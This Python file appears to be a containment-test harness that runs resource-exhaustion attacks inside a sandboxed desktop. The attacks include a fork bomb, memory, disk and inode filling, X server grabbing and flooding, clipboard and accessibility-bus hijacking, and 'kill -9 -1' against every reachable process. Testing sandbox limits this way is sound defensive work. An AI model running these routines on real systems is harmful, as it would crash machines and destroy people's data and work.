"""Runs in a desktop as the agent: uses up one resource, and continues while others watch the effect.

`exhaustion.py NAME [ARGUMENT]`: a child does the work, and a line of JSON appears once it is at full speed. It has its
own limits in addition to the desktop's, so that no machine is harmed if the desktop's fail. Standard library only,
except python-xlib for attacks on the X server.
"""

import json
import mmap
import os
import select
import signal
import socket
import subprocess
import sys
import time

SECONDS = 90.0
"""When it ends by itself."""
SWING = 45.0
"""How long it may take to reach full speed."""
MEGABYTE = 1 << 20


def behind(work, argument):
    """Run the work in a child; returns the child's first message."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        signal.alarm(int(SECONDS))
        null = os.open(os.devnull, os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(null, descriptor)

        def tell(text):
            os.write(write, text.encode() + b"\n")

        try:
            work(tell, argument)
        except BaseException as error:
            tell(f"{type(error).__name__}: {error}")
        os._exit(0)
    os.close(write)
    said = b""
    if select.select([read], [], [], SWING)[0]:
        said = os.read(read, 4096)
    return {"ok": True, "said": said.decode("utf-8", "replace").strip() or "under way"}


def linger():
    """Wait until the end."""
    while True:
        time.sleep(1)


def fork(tell, argument):
    """A fork bomb: each process becomes two."""
    end, told, first = time.monotonic() + SECONDS, False, os.getpid()
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError as error:
            if os.getpid() == first and not told:
                told = True
                tell(f"fork: {error.strerror}")


def honest(tell, argument):
    """Busy processes for a few seconds: an honest program may do the same."""
    spin(tell, argument, 5)


def spin(tell, argument, seconds=int(SECONDS)):
    """Start the given number of busy processes."""
    for _ in range(int(argument)):
        try:
            if os.fork() == 0:
                signal.alarm(seconds)
                while True:
                    pass
        except OSError:
            break
    tell(f"{argument} busy processes")
    linger()


def memory(tell, argument):
    """Allocate memory in many processes, any of which the kernel may kill."""
    whole, share, given, end = int(argument), 256, 0, time.monotonic() + 40.0
    read, write = os.pipe()
    for _ in range(whole // share):
        if os.fork() == 0:
            signal.alarm(int(SECONDS))
            taken = mmap.mmap(-1, share * MEGABYTE)
            for _ in range(share):
                taken.write(b"x" * MEGABYTE)
            os.write(write, b".")
            linger()
        if not select.select([read], [], [], max(0.0, min(5.0, end - time.monotonic())))[0]:
            continue
        given += share * len(os.read(read, 4096))
    ended = 0
    while os.waitpid(-1, os.WNOHANG)[0]:
        ended += 1
    tell(
        f"{given} of {whole} MB were given, {ended} programs ended{'; no end' if given >= whole and not ended else ''}"
    )
    linger()


def places():
    """A writable folder on each file system."""
    found: dict[int, str] = {}
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
        try:
            if os.access(folder, os.W_OK):
                found.setdefault(os.stat(folder).st_dev, folder)
        except OSError:
            continue
    return sorted(found.values())


def disk(tell, argument):
    """Fill every file system, up to a total number of megabytes."""
    left, said = int(argument), []
    for folder in places():
        if not os.path.isdir(folder) or folder.startswith("/dev/mqueue"):
            continue
        written = 0
        try:
            with open(f"{folder}/attack-fill", "wb", buffering=0) as file:
                while left > 0:
                    written += file.write(b"x" * MEGABYTE) // MEGABYTE
                    left -= 1
        except OSError as error:
            said.append(f"{folder}: {written} MB, then {error.strerror}")
            continue
        said.append(f"{folder}: {written} MB")
    tell(f"{int(argument) - left} MB; {'no end' if left <= 0 else 'full'}: {', '.join(said)}")
    linger()


def inodes(tell, argument):
    """Create empty files everywhere, up to a total number."""
    left, said, end = int(argument), [], time.monotonic() + 12.0
    for folder in places():
        count = 0
        try:
            os.makedirs(f"{folder}/attack-many")
            while left > 0 and time.monotonic() < end:
                os.close(os.open(f"{folder}/attack-many/{count}", os.O_CREAT | os.O_WRONLY))
                count, left = count + 1, left - 1
        except OSError as error:
            said.append(f"{folder}: {count}, then {error.strerror}")
            continue
        said.append(f"{folder}: {count}")
    tell(f"{int(argument) - left} files: {', '.join(said)}")
    linger()


def descriptors(tell, argument):
    """Open as many files as possible in each of many processes, up to a total number."""
    import resource

    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    share = min(most - 64, 10_000)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    read, write = os.pipe()
    count = int(argument) // share
    for _ in range(count):
        if os.fork() == 0:
            signal.alarm(int(SECONDS))
            mine = 0
            try:
                for _ in range(share // 2):
                    os.pipe()
                    mine += 2
            except OSError:
                pass
            os.write(write, f"{mine}\n".encode())
            linger()
    lines, end = b"", time.monotonic() + 12.0
    while lines.count(b"\n") < count and time.monotonic() < end and select.select([read], [], [], 2.0)[0]:
        lines += os.read(read, 4096)
    tell(f"{sum(int(line) for line in lines.split())} descriptors in {count} processes")
    linger()


def clients(tell, argument):
    """Take all connections of the X server."""
    number = os.environ["DISPLAY"].rpartition(":")[2].split(".")[0]
    held = []
    for _ in range(int(argument)):
        sock = socket.socket(socket.AF_UNIX)
        sock.settimeout(2.0)
        try:
            sock.connect(f"/tmp/.X11-unix/X{number}")
            sock.sendall(b"l\0\x0b\0\0\0\0\0\0\0\0\0")
            if sock.recv(1) != b"\1":
                break
        except OSError:
            break
        held.append(sock)
    tell(f"{len(held)} connections to the X server")
    linger()


def windows(tell, argument):
    """Map the given number of windows, with titles of some thousand letters."""
    from Xlib import X, display

    there = display.Display()
    screen = there.screen()
    count, end = 0, time.monotonic() + 15.0
    while count < int(argument) and time.monotonic() < end:
        window = screen.root.create_window(count % 900, count % 600, 200, 100, 0, screen.root_depth,
                                           background_pixel=count * 997 % 0xFFFFFF)  # fmt: skip
        window.set_wm_name("\x1b]0;" + "W" * 2000 + str(count))
        window.set_wm_class("attack\n", "Attack" * 40)
        window.map()
        if count % 5 == 0:  # the window manager does not manage these
            other = screen.root.create_window(0, 0, 5, 5, 0, screen.root_depth, X.InputOutput, override_redirect=True)
            other.map()
        count += 1
        if count % 50 == 0:
            there.flush()
    there.flush()
    tell(f"{count} windows")
    linger()


def grab(tell, argument):
    """Grab the X server, so that it serves nobody else."""
    from Xlib import display

    there = display.Display()
    there.grab_server()
    there.sync()
    tell("the X server is grabbed")
    linger()


def flicker(tell, argument):
    """Change the whole screen all the time, so that it never settles and never compresses."""
    from Xlib import X, display

    there = display.Display()
    screen = there.screen()
    window = screen.root.create_window(0, 0, 4000, 4000, 0, screen.root_depth, X.InputOutput, override_redirect=True)
    window.map()
    gc = window.create_gc()
    tell("the screen changes")
    while True:
        for index in range(400):
            gc.change(foreground=int.from_bytes(os.urandom(3), "big"))
            window.fill_rectangle(gc, index * 37 % 1280, index * 53 % 800, 90, 70)
        there.sync()


def clipboard(tell, argument):
    """Own a clipboard of the given number of megabytes."""
    feed = subprocess.Popen(["xclip", "-i", "-selection", "clipboard"], stdin=subprocess.PIPE)
    assert feed.stdin is not None
    for _ in range(int(argument)):
        feed.stdin.write(b"x" * MEGABYTE)
    feed.stdin.close()
    feed.wait(10)
    tell(f"{argument} MB on the clipboard")
    linger()


def deaf(tell, argument):
    """Own the clipboard, and never deliver it."""
    from Xlib import display

    there = display.Display()
    window = there.screen().root.create_window(0, 0, 1, 1, 0, there.screen().root_depth)
    for name in ("CLIPBOARD", "PRIMARY"):
        window.set_selection_owner(there.intern_atom(name), 0)
    there.sync()
    tell("a clipboard whose owner never answers")
    linger()


def _widgets(tell, count, then):
    """A program with the given number of accessible elements."""
    import gi

    gi.require_version("Gtk", "3.0")
    from gi.repository import GLib, Gtk

    window, box = Gtk.Window(title="attack"), Gtk.Box()
    labels = [Gtk.Label(label="W" * 200) for _ in range(count)]
    for label in labels:
        box.add(label)
    window.add(box)
    window.show_all()
    GLib.timeout_add(1500, lambda: then(GLib, labels))
    GLib.timeout_add(1500, lambda: tell(f"{count} accessible parts"))
    Gtk.main()


def bus(tell, argument):
    """A program with many accessible elements, each of which reports changes all the time."""

    def then(glib, labels):
        def change(turn=[0]):  # noqa: B006
            turn[0] += 1
            for label in labels[turn[0] % 10 :: 10]:
                label.get_accessible().set_name(f"{turn[0]}" * 50)
            return True

        glib.idle_add(change)
        return False

    _widgets(tell, int(argument), then)


def mute(tell, argument):
    """A program on the accessibility bus that never answers."""

    def then(glib, labels):
        glib.timeout_add(200, lambda: os.kill(os.getpid(), signal.SIGSTOP))
        return False

    _widgets(tell, int(argument), then)


def stop(tell, argument):
    """Stop every process that it may stop."""
    os.kill(-1, signal.SIGSTOP)
    tell("all that a program may stop is stopped")
    linger()


def kill(tell, argument):
    """Kill every process that it may kill: `kill -9 -1`."""
    os.kill(-1, signal.SIGKILL)
    tell("all that a program may end is ended")
    linger()


def left(argument):
    """Find leftovers of an attack by name."""
    found = []
    for place in ("/tmp", "/home", "/dev/shm", "/var/tmp", "/run"):
        for folder, folders, files in os.walk(place):
            found += [f"{folder}/{name}" for name in (*folders, *files) if name.startswith("attack")]
    return {"ok": bool(found), "said": f"{len(found)}: {found[:3]}" if found else "nothing"}


def main():
    """Run the attack with the given name."""
    if sys.argv[1] == "left":
        print(json.dumps(left("")))
        return
    todo = {one.__name__: one for one in (fork, honest, spin, memory, disk, inodes, descriptors, clients, windows, grab, flicker,
                                          clipboard, deaf, bus, mute, stop, kill)}  # fmt: skip
    print(json.dumps(behind(todo[sys.argv[1]], sys.argv[2] if len(sys.argv) > 2 else "0")), flush=True)


if __name__ == "__main__":
    main()
